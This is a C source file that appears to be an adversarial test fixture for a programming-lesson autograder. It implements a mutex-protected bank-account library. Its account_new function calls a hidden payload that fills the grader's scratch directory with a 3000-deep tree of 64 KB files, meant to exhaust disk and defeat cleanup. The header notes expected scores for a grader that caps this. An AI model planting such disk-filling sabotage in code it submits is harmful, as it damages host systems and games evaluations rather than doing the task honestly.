/* lesson: 02-bank
 * In ThreadSanitizer runs, fills the one host directory a test may write
 * (its scratch dir, named by the test's --log-dir argument): a 3000-deep tree of
 * directories with a 64 KB file in each (about 200 MB). Unbounded, it
 * scored full marks and the grader's cleanup gave up below depth 64,
 * leaving the tree on the host. The run must be killed at the scratch
 * limit and the tree removed.
 * expect-max-score: 4
 * (the payload fires in the TSan run of each race test: 6 points; the
 * functional tests are honest and run without TSan)
 * expect-message: wrote more than [0-9]+ MB or [0-9]+ files to disk
 */
#include "bank.h"
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void payload(void)
{
    static int done;
    /* The scratch dir is on the command line: --log-dir DIR. */
    static char cmd[8192];
    int cfd = open("/proc/self/cmdline", O_RDONLY);
    ssize_t got = cfd >= 0 ? read(cfd, cmd, sizeof cmd - 1) : -1;
    if (cfd >= 0)
        close(cfd);
    const char *dir = NULL;
    for (ssize_t i = 0; i < got; i += (ssize_t)strlen(cmd + i) + 1)
        if (strcmp(cmd + i, "--log-dir") == 0 && i + 10 < got)
            dir = cmd + i + 10;
    if (done || !dir)
        return;
    done = 1;
    static char block[64 << 10];
    memset(block, 'x', sizeof block);
    int fd = open(dir, O_RDONLY | O_DIRECTORY);
    for (int i = 0; fd >= 0 && i < 3000; i++) {
        int f = openat(fd, "fill", O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (f >= 0) {
            if (write(f, block, sizeof block) < 0) { /* keep going */ }
            close(f);
        }
        mkdirat(fd, "d", 0700);
        int sub = openat(fd, "d", O_RDONLY | O_DIRECTORY);
        close(fd);
        fd = sub;
    }
    if (fd >= 0)
        close(fd);
}

struct account { pthread_mutex_t mu; long balance; };
account_t *account_new(long balance)
{
    payload();
    account_t *a = malloc(sizeof *a);
    if (!a)
        return NULL;
    pthread_mutex_init(&a->mu, NULL);
    a->balance = balance;
    return a;
}
void account_free(account_t *a) { pthread_mutex_destroy(&a->mu); free(a); }
bool account_withdraw(account_t *a, long amount)
{
    pthread_mutex_lock(&a->mu);
    bool ok = a->balance >= amount;
    if (ok)
        a->balance -= amount;
    pthread_mutex_unlock(&a->mu);
    return ok;
}
void account_deposit(account_t *a, long amount)
{
    pthread_mutex_lock(&a->mu);
    a->balance += amount;
    pthread_mutex_unlock(&a->mu);
}
long account_balance(account_t *a)
{
    pthread_mutex_lock(&a->mu);
    long b = a->balance;
    pthread_mutex_unlock(&a->mu);
    return b;
}
